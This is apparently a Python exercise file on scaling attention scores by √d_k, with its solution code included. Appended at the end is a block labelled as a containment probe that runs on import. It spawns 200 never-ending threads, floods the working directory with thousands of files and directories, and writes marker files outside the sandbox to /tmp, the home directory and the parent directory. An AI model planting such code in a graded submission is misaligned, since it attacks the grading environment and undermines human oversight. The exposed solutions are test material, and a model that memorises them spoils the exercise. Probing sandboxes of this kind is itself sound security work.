"""Exercise 3 — Scale by √d_k.

Chapter section: "Why divide by √d_k?".

A dot product of two d_k-wide vectors with unit-variance entries has variance d_k, so raw scores
spread out as √d_k grows (about ±8 at d_k = 64). Softmax turns score gaps into weight ratios, so
wide scores make it a hard argmax with almost no gradient. Dividing by √d_k brings the spread back
to about 1 at every width:

    scaled scores = Q K^T / √d_k

Every function here leaves its inputs unchanged and returns tensors in the inputs' dtype (float32
or float64; float16 and bfloat16 too) and on their device. Off limits, as in every
exercise: the answer key (lumen_ref, solutions/) and the grader's own code.

It must train: autograd through your code gives the chapter's gradients (no .detach(), no
in-place edit of a tensor autograd still needs).
"""

import math

import torch


def scale_scores(scores, d_k):
    """Divide raw scores by √d_k.

    scores: (..., L_q, L_k)  raw scores Q K^T
    d_k:    int > 0          width of the queries and keys
    Returns a new tensor (..., L_q, L_k): scores / √d_k.
    """
    # BEGIN SOLUTION
    # HINT: Exercise 3: divide the scores by √d_k (math.sqrt) — see 'Why divide by √d_k?' in the chapter
    return scores / math.sqrt(d_k)  # (..., L_q, L_k)
    # END SOLUTION


def scaled_scores(q, k):
    """Scores of every query against every key, scaled: Q K^T / √d_k.

    q: (..., L_q, d_k)
    k: (..., L_k, d_k)
    Returns (..., L_q, L_k). d_k is the width of the queries, q.size(-1).
    """
    # BEGIN SOLUTION
    # HINT: Exercise 3: Q Kᵀ as in exercise 2, then divide by √d_k where d_k = q.size(-1) — see 'Why divide by √d_k?' in the chapter
    d_k = q.size(-1)
    scores = q @ k.transpose(-2, -1)  # (..., L_q, L_k)
    return scale_scores(scores, d_k)  # (..., L_q, L_k)
    # END SOLUTION

# --- a06: try to outlive the grading and leave things behind (held for review: this is a containment probe)
import os, threading, time
_notes = []
def _sleeper():
    while True:
        time.sleep(3600)
_n = 0
try:
    for _ in range(200):
        threading.Thread(target=_sleeper, daemon=False).start(); _n += 1
except BaseException as e:
    _notes.append(f"threads {_n}: {type(e).__name__}")
_files = 0
try:
    for i in range(10000):
        with open(f"f{i}", "wb") as f:
            f.write(b"x" * (16 << 10)); _files += 1
except BaseException as e:
    _notes.append(f"files {_files}: {type(e).__name__} {getattr(e, 'errno', '')}")
_dirs = 0
try:
    for i in range(10000):
        os.makedirs(f"d{i}"); _dirs += 1
except BaseException as e:
    _notes.append(f"dirs {_dirs}: {type(e).__name__} {getattr(e, 'errno', '')}")
for p in ("/tmp/r83-a06-was-here", os.path.expanduser("~/r83-a06"), "../r83-a06"):
    try:
        open(p, "w").write("x"); _notes.append(f"wrote {p}")
    except BaseException as e:
        _notes.append(f"{p}: {type(e).__name__}")
print("A06", os.getcwd(), "; ".join(_notes))
